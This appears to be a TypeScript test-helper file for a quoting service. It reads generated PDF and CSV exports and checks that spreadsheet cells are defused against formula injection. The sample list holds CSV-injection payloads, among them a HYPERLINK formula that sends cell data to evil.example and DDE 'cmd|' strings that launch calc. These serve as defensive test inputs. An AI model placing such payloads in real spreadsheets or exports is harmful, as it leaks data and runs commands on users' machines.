// Readers for PDF and CSV based on libraries that the service does not use.
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { getDocument, OPS } from 'pdfjs-dist/legacy/build/pdf.mjs'
import type { Queryable } from '../../src/platform/postgres/database.ts'
import { documentData, type DocumentSettings } from '../../src/quoting/document/document-data.ts'
import { layOutQuote } from '../../src/quoting/document/layout.ts'
import { findAcceptance } from '../../src/quoting/quote/quote-repository.ts'
import type { QuoteRecord } from '../../src/quoting/quote/quote-schemas.ts'
import { findStoreById } from '../../src/storefront/store-repository.ts'
import type { Answer } from './api.ts'

type PdfPage = {
  /** The lines from top to bottom, in visual order. */
  lines: string[]
  /** How far above the end of the page they stand, in points. */
  heights: number[]
  /** The text without whitespace, for scripts that are split across fonts. */
  squeezed: string
  pictures: number
  /** The addresses that it links to. */
  links: string[]
}

export type PdfFile = { pages: PdfPage[]; text: string; info: Record<string, unknown> }

type Piece = { str: string; transform: number[] }

/** Draws the document of a quote under other settings than those of the service. */
export async function quoteDocument(
  db: Queryable,
  settings: DocumentSettings,
  quote: QuoteRecord,
): Promise<Buffer> {
  const store = await findStoreById(db, quote.store_id)
  const acceptance = quote.status === 'accepted' ? await findAcceptance(db, quote.quote_id) : undefined
  return layOutQuote({ ...documentData(quote, settings, store), acceptance })
}

export async function readPdf(bytes: Buffer): Promise<PdfFile> {
  const file = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise
  const pages: PdfPage[] = []
  for (let number = 1; number <= file.numPages; number++) {
    const page = await file.getPage(number)
    const { items } = await page.getTextContent()
    const { fnArray } = await page.getOperatorList()
    const rows = rowsOf(items as Piece[])
    const lines = rows.map(([, line]) => line)
    const heights = rows.map(([height]) => height)
    const pictures = fnArray.filter((operation) => operation === OPS.paintImageXObject).length
    const links = (await page.getAnnotations()).flatMap(({ url }: { url?: string }) => url ?? [])
    pages.push({ lines, heights, squeezed: squeezed(lines.join('')), pictures, links })
  }
  const { info } = await file.getMetadata()
  await file.destroy()
  return { pages, text: pages.flatMap(({ lines }) => lines).join('\n'), info: { ...info } }
}

export function squeezed(text: string): string {
  return text.replace(/\s/g, '')
}

// Text at the same height is one line, in whatever order it was drawn.
function rowsOf(pieces: Piece[]): [height: number, line: string][] {
  const rows = new Map<number, Piece[]>()
  for (const piece of pieces) {
    if (piece.str.trim() === '') continue
    const height = Math.round(piece.transform[5] ?? 0)
    rows.set(height, [...(rows.get(height) ?? []), piece])
  }
  const leftOf = ({ transform }: Piece) => transform[4] ?? 0
  const lineOf = (row: Piece[]) => row.sort((a, b) => leftOf(a) - leftOf(b)).map(({ str }) => str.trim())
  return [...rows].sort(([a], [b]) => b - a).map(([height, row]) => [height, lineOf(row).join(' ')])
}

type Cell = string | number | boolean | null
type Row = Record<string, Cell>

/** Texts, some of which a spreadsheet would run as a formula, and the cells that they must become. */
export const cellSamples: [text: string, cell: string][] = [
  ...withApostrophe(
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    '+49 30 1234567',
    '@SUM(A1:A9)',
    '-5',
  ),
  ...withApostrophe("-2+3+cmd|' /C calc'!A0", "'=1", '＝1+1', '＋1', '－1', '＠SUM(A1)'),
  // A spreadsheet may split a text at semicolons, tabs or line breaks, and so find a formula in the middle.
  ['x;=1+1', "x;'=1+1"],
  ['x;"=1+1"', `x;"'=1+1"`],
  [`";"''=cmd|' /C calc'!A0`, `";"'''=cmd|' /C calc'!A0`],
  ['a,+1;-2|@SUM(A1)', "a,'+1;'-2|'@SUM(A1)"],
  ['\t=1+1\r=2\n-3\r\n+4\u000b＝5', "\t'=1+1\r'=2\n'-3\r\n'+4\u000b'＝5"],
  ...unchanged(
    '1=1',
    ' =1',
    'e-mail; - or +49',
    'M8x40, 2.5-3 mm',
    '0042',
    '12.50',
    'true',
    'null',
    '',
    ' ',
    '\\N',
    '\\"',
    '\ufeffx',
  ),
  ...unchanged(
    'Müller; "Söhne", KG',
    '"',
    '""',
    '","',
    "'",
    ',',
    ';',
    'one\r\ntwo\nthree\rfour\n',
    'end\r\n',
  ),
  ...unchanged('尺寸 🪑 مرحبا', '\u2028\u0085\u000b'),
]

function withApostrophe(...cells: string[]): [string, string][] {
  return cells.map((cell) => [cell, `'${cell}`])
}

function unchanged(...cells: string[]): [string, string][] {
  return cells.map((cell) => [cell, cell])
}

/** A character with which a formula begins, at the start of a cell or after a separator, and behind quotes. */
const FORMULA = /(^|[,;|\x01-\x1f])(["']*)([-=+@＝＋－＠])/g

/** The records of a list as the rows of its export. */
export function inCells(records: object[]): Row[] {
  const defused = (value: Cell | object) => {
    if (typeof value === 'object' && value !== null) return JSON.stringify(value)
    if (typeof value !== 'string') return value
    return value.replace(FORMULA, "$1$2'$3")
  }
  return (records as Record<string, Cell | object>[]).map((record) =>
    Object.fromEntries(
      Object.entries(record)
        .flatMap(([name, value]) => cellsOf(name, value))
        .map(([name, value]) => [name, defused(value)]),
    ),
  )
}

const addressFields = 'firstname lastname company street city region postcode country_id telephone vat_id'

// An address becomes a column for each of its fields.
function cellsOf(name: string, value: object | Cell): [string, object | Cell][] {
  if (!name.endsWith('_address')) return [[name, value]]
  const { street, ...fields } = (value ?? {}) as Record<string, Cell>
  const cells: Record<string, Cell> = {
    ...fields,
    street: (street as unknown as string[])?.join(', ') ?? null,
  }
  return addressFields.split(' ').map((field) => [name.replace('address', field), cells[field] ?? null])
}

/** Asserts that these columns hold the cells of `cellSamples`, in their order. */
export function assertDefused(rows: Row[], columns: string[]): void {
  const cells = cellSamples.map(([, cell]) => cell)
  for (const name of columns) {
    const found = rows.map((row) => row[name])
    assert.deepEqual(found, cells, name)
  }
}

/** Returns column names and rows. Unquoted cells are null, numbers, booleans and times; quoted ones are text. */
export function readCsv({ status, headers, text, bytes }: Answer): { names: string[]; rows: Row[] } {
  assert.equal(status, 200, text)
  assert.equal(headers['content-type'], 'text/csv; charset=utf-8')
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a byte order mark')
  assert.ok(text.endsWith('\r\n'), 'the last line is ended')
  const [names = [], ...rows] = parse(bytes, {
    bom: true,
    record_delimiter: '\r\n',
    cast: (cell, { quoting }) => (quoting ? cell : unquoted(cell)),
  }) as unknown as [string[], ...Cell[][]]
  return { names, rows: rows.map((row) => Object.fromEntries(row.map((cell, n) => [names[n], cell]))) }
}

function unquoted(cell: string): Cell {
  if (cell === '') return null
  if (cell === 'true' || cell === 'false') return cell === 'true'
  return /^-?\d+(\.\d+)?$/.test(cell) ? Number(cell) : cell
}
